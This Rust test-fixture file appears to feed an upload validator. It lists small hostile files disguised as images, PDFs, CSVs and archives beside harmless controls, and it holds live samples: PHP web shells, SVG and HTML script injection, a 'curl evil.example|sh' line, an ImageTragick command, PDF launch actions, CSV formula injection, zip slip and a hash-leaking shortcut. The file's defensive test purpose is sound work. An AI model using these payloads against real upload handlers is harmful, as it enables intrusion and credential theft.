//! Files of a few bytes. A real file of the same kind does the same.

use super::{Label, UploadAttack};

const fn hostile(
    name: &'static str,
    declared: &'static str,
    bytes: &'static [u8],
    why: &'static str,
    source: &'static str,
) -> UploadAttack {
    UploadAttack { name, declared: Some(declared), bytes, label: Label::Hostile, why, source }
}

const fn harmless(
    name: &'static str,
    declared: Option<&'static str>,
    bytes: &'static [u8],
    why: &'static str,
) -> UploadAttack {
    UploadAttack { name, declared, bytes, label: Label::Harmless, why, source: "made by hand" }
}

/// One black pixel.
const PNG: &[u8] = b"\x89PNG\r\n\x1A\n\0\0\0\x0DIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0\x3A\x7E\x9B\x55\
    \0\0\0\x0AIDAT\x78\xDA\x63\x60\0\0\0\x02\0\x01\xE5\x27\xDE\xFC\0\0\0\0IEND\xAE\x42\x60\x82";
/// One pixel.
const GIF: &[u8] =
    b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xFF\xFF\xFF\x2C\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0\x3B";
const SVG: &[u8] =
    b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><circle r=\"4\"/></svg>";
const SNIFF: &str = "MIME Sniffing standard, 7.1";

#[rustfmt::skip]
pub(super) const ROWS: &[UploadAttack] = &[
    hostile("cat.gif", "image/gif", b"<html><script>alert(1)</script>", "a page named like a picture: shown as one where the type is not sent", SNIFF),
    hostile("cat.png", "image/png", b"  \n<!DOCTYPE html><script>alert(1)</script>", "white space before it does not help", SNIFF),
    hostile("notes.txt", "text/plain", b"\xEF\xBB\xBF<html><script>alert(1)</script>", "a byte order mark before a page", SNIFF),
    hostile("cat.gif", "image/gif", b"GIF89a<html><script>alert(1)</script></html>", "begins like a picture, and is none", "every tool that looks at the first bytes only"),
    hostile("cat.gif", "image/gif", b"GIF89a;<?php system($_GET['c']); ?>", "the same with PHP", "every tool that looks at the first bytes only"),
    hostile("cat.gif", "image/gif", b"GIF89a/*\x01\0\x01\0*/=1;alert(1)//", "a picture's first bytes that are a script's, too", "CSP bypass by a polyglot"),
    hostile("cat.bmp", "image/bmp", b"BM/*\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0*/=1;alert(1)//", "two letters are all the signature there is", "every tool that looks at the first bytes only"),
    hostile("cat.webp", "image/webp", b"RIFF\x24\0\0\0WEBPVP8 <?php system($_GET[\"c\"]); ?>", "a container with nothing in it", "every tool that looks at the first bytes only"),
    hostile("cat.jpg", "image/jpeg", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", "a picture that is markup, under another type", SNIFF),
    hostile("cat.svg", "image/svg+xml", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", "runs when it is opened by itself", "seen in Chromium 156"),
    hostile("cat.svg", "image/svg+xml", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", "a handler", "seen in Chromium 156"),
    hostile("cat.svg", "image/svg+xml", b"<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>alert(1)</s:script></s:svg>", "a prefix hides <script from a search", "seen in Chromium 156"),
    hostile("cat.svg", "image/svg+xml", b"<!DOCTYPE svg [<!ENTITY x \"<script xmlns='http://www.w3.org/2000/svg'>alert(1)</script>\">]><svg xmlns=\"http://www.w3.org/2000/svg\">&x;</svg>", "an entity hides it", "seen in Chromium 156"),
    hostile("cat.svg", "image/svg+xml", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@import url(\"http://evil.example/x.css\");</style></svg>", "loads from elsewhere", "seen in Chromium 156"),
    hostile("cat.jpg", "image/jpeg", b"%!PS-Adobe-3.0 EPSF-3.0\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops\n", "a program for whoever makes thumbnails", "CVE-2016-3714 (ImageTragick)"),
    hostile("cat.jpg", "image/jpeg", b"#!/bin/sh\ncurl evil.example|sh\n", "a script", "the ordinary case"),
    hostile("cat.png", "image/png", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0", "a program of Windows", "the ordinary case"),
    hostile("cat.png", "image/png", b"\0asm\x01\0\0\0", "another one", "the ordinary case"),
    hostile("cat.png", "image/png", b"just text\n", "no picture", "the ordinary case"),
    hostile("cat.png", "image/png", b"\x89PNG\r\n\x1A\n", "a signature, and nothing behind it", "every tool that looks at the first bytes only"),
    hostile("cat.jpg", "image/jpeg", b"\xFF\xD8\xFF", "another one", "every tool that looks at the first bytes only"),
    hostile("film.mp4", "video/mp4", b"\0\0\0\x18ftyp", "another one", "every tool that looks at the first bytes only"),
    hostile("cat.png", "image/png", b"", "nothing", "the ordinary case"),
    hostile("cat.gif", "image/gif", b"GIF89a\xFF\xFF\xFF\xFF\0\0\0;", "four thousand million pixels in fourteen bytes", "CWE-409"),
    hostile("letter.pdf", "application/pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF", "runs script when it is opened", "ISO 32000-1, 12.6.4.16"),
    hostile("letter.pdf", "application/pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(calc.exe)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF", "starts a program", "ISO 32000-1, 12.6.4.5"),
    hostile("letter.pdf", "application/pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>", "begins like a document", SNIFF),
    hostile("list.csv", "text/csv", b"name,sum\n=cmd|' /C calc'!A0,1\n", "a spreadsheet runs it", "CWE-1236"),
    hostile("a.zip", "application/zip", b"PK\x03\x04\x14\0\0\0\x08\0\0\0!X\xD4q\x8B\x12\x19\0\0\0(#\0\0\x05\0\0\0a.txt", "an archive without its list", "APPNOTE, 4.3.6"),
    hostile("a.zip", "application/zip", b"PK\x03\x04\x14\0\0\0\0\0\0\0!X\x83\x16\xDC\x8C\x01\0\0\0\x01\0\0\0\x0B\0\0\0../evil.txtxPK\x01\x02\x14\x03\x14\0\0\0\0\0\0\0!X\x83\x16\xDC\x8C\x01\0\0\0\x01\0\0\0\x0B\0\0\0\0\0\0\0\0\0\0\0\x80\x01\0\0\0\0../evil.txtPK\x05\x06\0\0\0\0\x01\0\x01\x009\0\0\0*\0\0\0\0\0", "a name in it leads out of the folder", "CWE-22 (zip slip)"),
    hostile("notes.txt", "text/plain", b"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\nIconFile=\\\\evil.example\\s\\i.ico\r\n", "a shortcut that sends the password's hash to another machine", "CWE-294"),
    harmless("dot.png", Some("image/png"), PNG, "a picture"),
    harmless("dot.gif", Some("image/gif"), GIF, "a picture"),
    harmless("dot.gif", None, GIF, "clients that do not know a type send none: that is no lie"),
    harmless("dot.png", Some("application/octet-stream"), PNG, "or one that says nothing"),
    harmless("ball.svg", Some("image/svg+xml"), SVG, "a picture that is markup, and does nothing"),
    harmless("notes.txt", Some("text/plain"), b"To start a page, write <html> and then <script>.\n", "a text about markup"),
    harmless("notes.txt", Some("text/plain"), b"BM is how a bitmap begins.\n", "a text that begins like a picture"),
    harmless("list.csv", Some("text/csv"), b"name,sum\nAnn,-2\n", "a list, with a negative number"),
    harmless("data.json", Some("application/json"), b"{\"a\":[1,2,3]}\n", "data"),
];
